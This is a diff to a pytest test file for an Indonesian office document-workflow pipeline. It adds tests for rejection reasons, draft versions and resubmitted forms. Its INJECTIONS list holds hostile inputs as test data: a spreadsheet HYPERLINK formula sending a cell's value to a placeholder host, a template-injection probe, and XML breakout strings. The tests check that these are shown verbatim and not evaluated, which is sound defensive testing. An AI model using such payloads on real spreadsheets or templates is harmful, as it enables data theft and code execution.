@@ -33,8 +33,14 @@ from pipeline.intake import RetryPolicy
 from pipeline.model import CaseState
 from pipeline.status import build_status
 from pipeline.watcher import Watcher
-from tests.support.hostile import CORPUS, Hostile, make_docm, make_encrypted_pdf, make_xlsm
-from tests.support.hostile import make_excel_lock_file
+from tests.support.hostile import (
+    CORPUS,
+    Hostile,
+    make_docm,
+    make_encrypted_pdf,
+    make_excel_lock_file,
+    make_xlsm,
+)
 from tests.support.staff import one
 
 REASON_SUFFIX = ".ALASAN.txt"
@@ -99,6 +105,11 @@ class World:
     def states(self) -> dict[str, CaseState | None]:
         journal = self.app.journal
         return {cid: journal.case(cid) for cid in journal.case_ids()}
+
+    def case(self, case_id: str) -> CaseState:
+        state = self.app.journal.case(case_id)
+        assert state is not None, case_id
+        return state
 
     def products(self) -> set[str]:
         """Every file the pipeline made or keeps, but the rejections and the status files."""
@@ -261,22 +272,22 @@ def valid_drop(world: World, folder: str) -> Callable[[], bool]:
     """Drop the file the case waiting at `folder` needs; returns a check that it moved on."""
     if folder.startswith("bidang/"):
         world.drop(world.filled_form(), folder)
-        return lambda: world.states()[world.collecting].has("draf_awal")  # type: ignore[union-attr]
+        return lambda: world.case(world.collecting).has("draf_awal")
     if folder == "analis/draf":
         reviewed = world.desk / f"{world.drafting} Draf v2.docx"
         review_draft(world.root / f"outbox/analis/{world.drafting} Draf v1.docx", reviewed)
         world.drop(reviewed, folder)
-        return lambda: world.states()[world.drafting].has("draf_diterima")  # type: ignore[union-attr]
+        return lambda: world.case(world.drafting).has("draf_diterima")
     if folder.endswith("/paraf"):
         role = folder.split("/")[0]
         case_id = world.paraf_kasubag if role == "kasubag-ppmep" else world.paraf_sekretaris
         _copy_final(world, case_id, role)
-        return lambda: world.states()[case_id].has(f"paraf:{role}")  # type: ignore[union-attr]
+        return lambda: world.case(case_id).has(f"paraf:{role}")
     if folder == "kepala-dinas/tanda-tangan":
         signed = world.desk / f"{world.signing} Ditandatangani.pdf"
         signed.write_bytes(text_pdf([world.signing, world.settings.sop.document_title]))
         world.drop(signed, folder)
-        return lambda: world.states()[world.signing].closed  # type: ignore[union-attr]
+        return lambda: world.case(world.signing).closed
     assert folder == "kepala-dinas/disposisi", folder
     before = len(world.states())
     _drop_disposition(world, "Tahun 2027")
@@ -330,6 +341,8 @@ def test_hostile_drop_is_refused_with_its_reason_and_harms_nothing(
     shown = status_rejection(world, source.name)
     assert hostile.reason in str(shown["reason"])
     assert shown["folder"] == f"outbox/{role}/ditolak/"
+    role_status = (world.root / "outbox" / role / "STATUS.txt").read_text(encoding="utf-8")
+    assert source.name in role_status and hostile.reason in role_status
     for path in world.root.rglob("*"):
         if path.is_file() and path.stat().st_size < 1 << 20:
             assert SECRET.encode() not in path.read_bytes(), f"outside content leaked into {path}"
@@ -432,13 +445,19 @@ FORM_PROBLEMS = [
     ),
     pytest.param(
         set_cell(9, REALISASI, "=2*5"),
-        ["baris 9, kolom Realisasi: nilai rumus belum tersimpan (=2*5)", "Buka lalu simpan ulang di Excel"],
+        [
+            "baris 9, kolom Realisasi: nilai rumus belum tersimpan (=2*5)",
+            "Buka lalu simpan ulang di Excel",
+        ],
         1,
         id="formula-without-value",
     ),
     pytest.param(
         keterangan_formula,
-        ["baris 7, kolom Keterangan: nilai rumus belum tersimpan", "Buka lalu simpan ulang di Excel"],
+        [
+            "baris 7, kolom Keterangan: nilai rumus belum tersimpan",
+            "Buka lalu simpan ulang di Excel",
+        ],
         1,
         id="keterangan-formula-without-value",
     ),
@@ -462,13 +481,16 @@ FORM_PROBLEMS = [
     ),
     pytest.param(
         set_cell(8, KODE, "PBK-01"),
-        ["baris 8, kolom Kode: kode indikator 'PBK-01' muncul lebih dari sekali"],
-        1,
+        ["baris 8, kolom Kode: kode indikator 'PBK-01' muncul lebih dari sekali", "PBK-02"],
+        2,
         id="duplicate-code",
     ),
     pytest.param(
         delete_row(9),
-        ["indikator PBK-03 (Jumlah perangkat daerah yang dibina kearsipannya) tidak ada di formulir"],
+        [
+            "indikator PBK-03 (Jumlah perangkat daerah yang dibina kearsipannya) "
+            "tidak ada di formulir"
+        ],
         1,
         id="missing-indicator",
     ),
@@ -498,7 +520,6 @@ def test_a_form_with_a_bad_cell_is_refused_naming_the_cell(
     assert len(problem_lines(reason)) == lines, f"one line per real problem:\n{reason}"
     assert world.states() == before
     assert world.products() == products
-    still_taken(world, folder)
 
 
 def test_a_bad_value_is_not_also_reported_as_a_missing_indicator(world: World) -> None:
@@ -512,6 +533,22 @@ def test_a_bad_value_is_not_also_reported_as_a_missing_indicator(world: World) -
         "- sheet 'Data Kinerja', baris 7, kolom Realisasi: berisi teks 'tujuh', isi dengan angka. "
         "Ketik angkanya saja, misalnya 1.234,5 atau 85%."
     ]
+
+
+def test_a_very_long_cell_is_quoted_short_in_the_reason(world: World) -> None:
+    def long_cells(book: Workbook) -> None:
+        set_cell(7, REALISASI, "tujuh " * 500)(book)
+        set_cell(8, KODE, "X" * 3000)(book)
+
+    filled = world.filled_form(long_cells)
+    world.drop(filled, f"bidang/{world.last_bidang}")
+    assert world.run() == {"rejected": 1}
+    reason = (
+        world.root / "outbox/bidang" / world.last_bidang / "ditolak" / (filled.name + REASON_SUFFIX)
+    ).read_text(encoding="utf-8")
+    assert "berisi teks 'tujuh tujuh tujuh tujuh tujuh tujuh t...'" in reason
+    assert f"kode indikator '{'X' * 37}...' tidak dikenal" in reason
+    assert len(reason) < 2000, "a reason stays readable"
 
 
 def test_every_problem_of_a_form_is_listed_at_once(world: World) -> None:
@@ -577,14 +614,14 @@ def test_a_form_filled_the_indonesian_way_is_read_right(
 ) -> None:
     bidang = world.settings.office.bidang_by_slug(world.last_bidang)
     assert bidang is not None
-    filled = world.filled_form(edit)
     expected = openpyxl.load_workbook(world.filled_form())["Data Kinerja"]
+    filled = world.filled_form(edit)
     world.drop(filled, f"bidang/{world.last_bidang}")
 
     assert world.run() == {"accepted": 1}
 
-    state = world.states()[world.collecting]
-    assert state is not None and state.has("draf_awal")
+    state = world.case(world.collecting)
+    assert state.has("draf_awal")
     rows = state.bidang[world.last_bidang].rows
     assert [r.kode for r in rows] == [i.kode for i in bidang.iku]
     first = expected.cell(7, REALISASI).value if value is None else value
@@ -598,37 +635,55 @@ def test_a_form_filled_the_indonesian_way_is_read_right(
 
 
 INJECTIONS = [
-    '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik di sini")',
-    "+62 812-3456-7890",
-    "@SUM(A1:A9)",
-    "{{ 7*7 }}",
-    "{{ kasus }} {{ ''.__class__.__mro__ }}",
-    "{% for x in range(9) %}ulang{% endfor %}",
-    "{%tr for r in rows %}",
-    "{_{ kasus }_} {_% if 1 %_}",
-    "<w:t>&amp;</w:t></w:r></w:p><w:p>",
-    "]]><![CDATA[ &lt; &#x41; & < > \" '",
-    "baris satu\nbaris dua\tber-tab",
-    "\u202ekiri-ke-kanan\u200b Café  Ｆｕｌｌ",
-    "x" * 4000,
+    pytest.param(
+        '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik di sini")',
+        "+62 812-3456-7890",
+        "@SUM(A1:A9)",
+        id="spreadsheet-formulas",
+    ),
+    pytest.param(
+        "{{ 7*7 }}",
+        "{{ kasus }} {{ ''.__class__.__mro__ }}",
+        "{% for x in range(9) %}ulang{% endfor %}",
+        id="template-code",
+    ),
+    pytest.param(
+        "{%tr for r in rows %}",
+        "{_{ kasus }_} {_% if 1 %_}",
+        "{{r kasus }} {%p if 1 %}",
+        id="docxtpl-tags",
+    ),
+    pytest.param(
+        "<w:t>&amp;</w:t></w:r></w:p><w:p>",
+        "]]><![CDATA[ &lt; &#x41; & < > \" '",
+        "baris satu\nbaris dua\tber-tab",
+        id="xml",
+    ),
+    pytest.param(
+        "\u202ekiri-ke-kanan\u200b Café  Ｆｕｌｌ",
+        "x" * 4000,
+        "😀 ﷽ 𝕏",
+        id="unicode-and-long",
+    ),
 ]
 
 
-@pytest.mark.parametrize("text", INJECTIONS, ids=lambda t: t[:24])
+@pytest.mark.parametrize("texts", [p.values for p in INJECTIONS], ids=[p.id for p in INJECTIONS])
 def test_keterangan_that_looks_like_code_appears_verbatim_in_the_draft(
-    world: World, text: str
+    world: World, texts: tuple[str, ...]
 ) -> None:
     def write(book: Workbook) -> None:
-        set_text(book["Data Kinerja"]["G7"], text)
+        for row, text in enumerate(texts, start=7):
+            set_text(book["Data Kinerja"].cell(row, KETERANGAN), text)
 
     world.drop(world.filled_form(write), f"bidang/{world.last_bidang}")
     assert world.run() == {"accepted": 1}
 
-    state = world.states()[world.collecting]
-    assert state is not None
-    assert state.bidang[world.last_bidang].rows[0].keterangan == text
+    state = world.case(world.collecting)
+    assert [r.keterangan for r in state.bidang[world.last_bidang].rows] == list(texts)
     cells = world.draft_cells(world.collecting)
-    assert text in cells, "the draft shows the cell exactly as typed, never evaluated"
+    for text in texts:
+        assert text in cells, f"the draft shows {text!r} exactly as typed, never evaluated"
 
 
 # --- 3. right file, wrong place or wrong moment ----------------------------------------------
@@ -640,7 +695,11 @@ def test_keterangan_that_looks_like_code_appears_verbatim_in_the_draft(
         ("analis", "analis", ["folder inbox/analis/ bukan tempat", "inbox/analis/draf/"]),
         ("analis/draf/lama", "analis", ["folder inbox/analis/draf/lama/ bukan tempat"]),
         ("bidang", "bidang", ["folder inbox/bidang/ bukan tempat", "inbox/bidang/<bidang>/"]),
-        (".", "umum", ["folder inbox/ bukan tempat", "inbox/analis/draf/", "inbox/bidang/<bidang>/"]),
+        (
+            ".",
+            "umum",
+            ["folder inbox/ bukan tempat", "inbox/analis/draf/", "inbox/bidang/<bidang>/"],
+        ),
     ],
 )
 def test_a_file_in_the_wrong_folder_is_refused_with_the_right_folders(
@@ -683,7 +742,13 @@ def test_a_form_for_a_case_that_does_not_exist_is_refused(world: World) -> None:
 
     assert world.run() == {"rejected": 1}
 
-    refused(world, f"bidang/{world.last_bidang}", renamed.name, digest, f"nomor kasus {unknown} tidak dikenal")
+    refused(
+        world,
+        f"bidang/{world.last_bidang}",
+        renamed.name,
+        digest,
+        f"nomor kasus {unknown} tidak dikenal",
+    )
     assert world.states() == before
 
 
@@ -743,7 +808,9 @@ def test_paraf_out_of_order_is_refused(world: World) -> None:
     before, digest = world.states(), sha256(copy)
     world.drop(copy, "sekretaris/paraf")
     assert world.run() == {"rejected": 1}
-    refused(world, "sekretaris", copy.name, digest, f"draf kasus {case_id} belum diparaf kasubag-ppmep")
+    refused(
+        world, "sekretaris", copy.name, digest, f"draf kasus {case_id} belum diparaf kasubag-ppmep"
+    )
     assert world.states() == before
 
 
@@ -763,6 +830,52 @@ def test_the_same_bytes_dropped_twice_are_taken_once(world: World) -> None:
     refused(world, folder, filled.name, digest, "sudah pernah diterima", "Tidak perlu dikirim lagi")
     assert world.states() == after_first
     assert world.products() == products
+
+
+def test_a_corrected_form_sent_again_under_the_same_name_is_kept_beside_the_first(
+    world: World,
+) -> None:
+    folder = f"bidang/{world.last_bidang}"
+    first = world.filled_form()
+    first_digest = sha256(first)
+    world.drop(first, folder)
+    assert world.run() == {"accepted": 1}
+    corrected = world.filled_form(set_cell(7, REALISASI, 80))
+    second_digest = sha256(corrected)
+    world.drop(corrected, folder)
+
+    assert world.run() == {"accepted": 1}, "a corrected form replaces the data"
+
+    kept = sorted((world.root / "berkas" / world.collecting / "masuk").glob("03 data *"))
+    digests = {sha256(p) for p in kept if world.last_bidang in p.name}
+    assert {first_digest, second_digest} <= digests, "both originals are kept"
+    state = world.case(world.collecting)
+    assert state.bidang[world.last_bidang].rows[0].realisasi == 80
+    assert [d.version for d in state.drafts] == [1, 2]
+    assert world.inbox_files() == []
+
+
+def test_each_draft_saved_under_the_same_name_stays_its_own_version(world: World) -> None:
+    case_id = world.drafting
+    name = f"{case_id} Draf telaah.docx"
+    for note in ("telaah pertama", "telaah kedua"):
+        source = world.desk / name
+        document = docx.Document(str(world.root / f"outbox/analis/{case_id} Draf v1.docx"))
+        document.add_paragraph(note)
+        document.save(str(source))
+        world.drop(source, "analis/draf")
+        assert world.run() == {"accepted": 1}
+
+    state = world.case(case_id)
+    v2, v3 = state.drafts[1:]
+    assert (v2.version, v3.version) == (2, 3) and v2.path != v3.path
+    texts = [
+        "\n".join(p.text for p in docx.Document(str(world.root / d.path)).paragraphs)
+        for d in (v2, v3)
+    ]
+    assert "telaah pertama" in texts[0] and "telaah kedua" in texts[1]
+    final = one(world.root / "outbox/kasubag-ppmep", f"{case_id} Draf Final v3 untuk paraf.docx")
+    assert sha256(final) == sha256(world.root / v3.path), "Kasubag gets the last version"
 
 
 def test_a_symlink_dropped_into_an_inbox_is_refused_without_reading_its_target(
